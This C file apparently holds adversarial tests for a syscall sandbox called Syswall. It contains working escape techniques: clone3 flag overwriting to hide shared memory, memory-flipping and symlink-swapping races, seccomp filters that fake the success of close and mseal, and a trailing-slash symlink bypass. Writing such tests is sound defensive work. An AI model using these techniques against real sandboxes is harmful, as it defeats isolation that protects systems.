/* Attackers who mislead Syswall about who shares what, about its own calls in them, and about where names lead. */
#define main races_main
#include "races.c"
#undef main
#include <linux/filter.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <sys/syscall.h>

/* ---- who shares memory ---- */

#ifdef __x86_64__
static char child_stack[65536] __attribute__((aligned(16)));

static void flip_for_ever(void)
{
    for (;;) {
        memcpy(shared, evil, 8);
        for (volatile int i = 0; i < 40; i++) { }
        memcpy(shared, good, 8);
        for (volatile int i = 0; i < 40; i++) { }
    }
}

/* A task with the same memory, whose maker's `struct clone_args` says something else once it is there: the kernel
 * writes the pidfd over the flags. */
static pid_t share_secretly(void)
{
    static struct clone_args args;
    args = (struct clone_args){ .flags = CLONE_VM | CLONE_PIDFD, .pidfd = (uintptr_t)&args.flags,
        .exit_signal = SIGCHLD, .stack = (uintptr_t)child_stack, .stack_size = sizeof child_stack };
    register void (*run)(void) asm("r12") = flip_for_ever;
    long result;
    asm volatile("syscall\n\ttest %%rax, %%rax\n\tjnz 1f\n\tcall *%%r12\n1:"
        : "=a"(result) : "0"((long)SYS_clone3), "D"(&args), "S"(sizeof args), "r"(run) : "rcx", "r11", "memory");
    CHECK(result > 0);
    return result;
}

static void liar(long times)
{
    good = "allowed";
    evil = "secret\0";
    memcpy(shared, good, 8);
    pid_t pid = share_secretly();
    run("clone3 that overwrites its flags, truncate", try_truncate, times);
    run("clone3 that overwrites its flags, unlink", try_unlink, times);
    kill(pid, SIGKILL);
    waitpid(pid, NULL, __WALL);
}
#else
static void liar(long times) { (void)times; }
#endif

/* A file of one's own that is mapped and looks like one of the system's. */
static void settled(long times)
{
    int fd = MUST(open("mine", O_RDWR | O_CREAT | O_TRUNC, 0644));
    MUST(ftruncate(fd, 4096));
    MUST(unlink("mine"));
    MUST(symlink("/usr/bin/env", "mine"));
    shared = MUST(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0));
    good = "allowed";
    evil = "secret\0";
    memcpy(shared, good, 8);
    pid_t pid = MUST(fork());
    if (pid == 0) { MUST(prctl(PR_SET_PDEATHSIG, SIGKILL)); flip(NULL); }
    run("a mapped file under another name, truncate", try_truncate, times);
    run("a mapped file under another name, unlink", try_unlink, times);
    kill(pid, SIGKILL);
    wait_for(pid);
}

/* ---- filters of the program's own ---- */

/* From now on `call` is not made, and seems to have succeeded. */
static void pretend(int call)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, call, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = { sizeof code / sizeof *code, code };
    MUST(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0));
    MUST(syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &program));
}

static char *region;

static void *flip_region(void *unused)
{
    while (go) {
        for (int i = 0; i < 32; i++) {
            char *at = region + i * 3 * 4096;
            if (!strcmp(at, good)) { memcpy(at, evil, 8); for (volatile int k = 0; k < 200; k++) { } }
        }
    }
    return unused;
}

/* The pages are not sealed, though it seems so. */
static void unsealed(long times)
{
    char line[512];
    pthread_t thread;
    good = "allowed";
    evil = "secret\0";
    CHECK(pthread_create(&thread, NULL, flip, NULL) == 0);
    pretend(462);
    go = 0;
    pthread_join(thread, NULL);
    pthread_t idle;
    go = 1;
    CHECK(pthread_create(&idle, NULL, flip, NULL) == 0);
    memcpy(shared, good, 8);
    if (access("allowed", F_OK) == -1) { }
    FILE *maps = fopen("/proc/self/maps", "r");
    CHECK(maps != NULL);
    unsigned long from, to;
    while (fgets(line, sizeof line, maps)) {
        char mode[8];
        unsigned long offset, inode;
        if (sscanf(line, "%lx-%lx %7s %lx %*s %lu", &from, &to, mode, &offset, &inode) != 5) continue;
        if (!strcmp(mode, "r--p") && !inode && !strchr(line, '[') && to - from == 3 * 4096 * 32) region = (char *)from;
    }
    fclose(maps);
    CHECK(region != NULL);
    int taken = mprotect(region, 3 * 4096 * 32, PROT_READ | PROT_WRITE) == 0;
    say("pages not sealed: 1 tries, %d reached", taken);
    go = 0;
    pthread_join(idle, NULL);
    if (!taken) return;
    go = 1;
    CHECK(pthread_create(&idle, NULL, flip_region, NULL) == 0);
    strcpy(shared, "allowed");
    run("pages not sealed, truncate", try_truncate, times);
    go = 0;
    pthread_join(idle, NULL);
}

/* What is to be closed stays open. */
static void unclosed(long times)
{
    pid_t pid = MUST(fork());
    if (pid == 0) { MUST(prctl(PR_SET_PDEATHSIG, SIGKILL)); swap_link(NULL); _exit(0); }
    long got = 0;
    for (tries = 0; tries < times; tries++) {
        /* Each in a process of its own: it may be ended for it. */
        pid_t child = MUST(fork());
        if (child == 0) {
            char text[64] = "";
            pretend(SYS_close);
            for (int i = 0; i < 20; i++) {
                int fd = open("way", O_RDONLY);
                for (int k = 3; k < 64; k++) {
                    ssize_t n = pread(k, text, sizeof text - 1, 0);
                    if (n > 0 && strstr(text, "words")) _exit(7);
                }
                if (fd >= 0) dup2(0, fd);
            }
            _exit(0);
        }
        int status = wait_for(child);
        got += WIFEXITED(status) && WEXITSTATUS(status) == 7;
    }
    say("close that does nothing: %ld tries, %ld reached", times, got);
    kill(pid, SIGKILL);
    wait_for(pid);
}

/* ---- where names lead ---- */

static void *come_and_go(void *target)
{
    while (go) {
        if (symlink(target, "path") == 0) { }
        for (volatile int i = 0; i < 60; i++) { }
        unlink("path");
    }
    return NULL;
}

static void *swap_path(void *unused)
{
    while (go) {
        unlink("t1"); if (symlink("open", "t1") == 0 && rename("t1", "path") == 0) { }
        unlink("t2"); if (symlink("closed", "t2") == 0 && rename("t2", "path") == 0) { }
    }
    return unused;
}

static void change(const char *name, const char *by, void *(*swap)(void *), long times)
{
    char file[128], made[128];
    pthread_t thread;
    snprintf(file, sizeof file, "%s/file", by);
    snprintf(made, sizeof made, "%s/new", by);
    go = 1;
    unlink("path");
    CHECK(pthread_create(&thread, NULL, swap, "closed") == 0);
    for (tries = reached = 0; tries < times; tries++) {
        unlink(file);
        if (mkdir(made, 0755) == 0) rmdir("open/new");
        truncate(file, 0);
        chmod(file, 0600);
        rename(file, "open/x");
        int fd = open(file, O_WRONLY | O_TRUNC | O_CREAT, 0600);
        if (fd >= 0) close(fd);
        if (closed_changed()) { reached++; break; }
    }
    say("%s: %ld tries, %ld reached", name, tries, reached);
    go = 0;
    pthread_join(thread, NULL);
}

/* A link with a slash behind it is followed, whatever the flags say. */
static void slash(void)
{
    struct stat before, after;
    MUST(symlink("closed/inner", "behind"));
    MUST(stat("closed/inner", &before));
    reached = open("behind/", O_RDONLY | O_DIRECTORY | O_NOFOLLOW) >= 0;
    struct timespec times[2] = { { 5, 0 }, { 5, 0 } };
    utimensat(AT_FDCWD, "behind/", times, AT_SYMLINK_NOFOLLOW);
    utimensat(AT_FDCWD, "behind/.", times, AT_SYMLINK_NOFOLLOW);
    MUST(stat("closed/inner", &after));
    reached += before.st_mtime != after.st_mtime;
    reached += open("behind/", O_TMPFILE | O_RDWR | O_NOFOLLOW, 0600) >= 0;
    say("a slash behind a link: 4 tries, %ld reached", reached);
}

static void *slash_thread(void *unused) { slash(); return unused; }

int main(int argc, char **argv)
{
    CHECK(argc == 3);
    const char *what = argv[1];
    long times = atol(argv[2]);
    shared = MUST(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
    if (!strcmp(what, "liar")) liar(times);
    else if (!strcmp(what, "settled")) settled(times);
    else if (!strcmp(what, "unsealed")) unsealed(times);
    else if (!strcmp(what, "unclosed")) unclosed(times);
    else if (!strcmp(what, "filter")) { pretend(SYS_mincore); change("with a filter", "path", swap_path, times); }
    else if (!strcmp(what, "absent")) change("a folder that comes and goes", "path", come_and_go, times);
    else if (!strcmp(what, "magic")) change("by way of /proc/self/cwd", "/proc/self/cwd/path", swap_path, times);
    else if (!strcmp(what, "slash")) {
        pthread_t thread;
        slash();
        MUST(unlink("behind"));
        CHECK(pthread_create(&thread, NULL, slash_thread, NULL) == 0);
        pthread_join(thread, NULL);
    } else return 2;
    return 0;
}
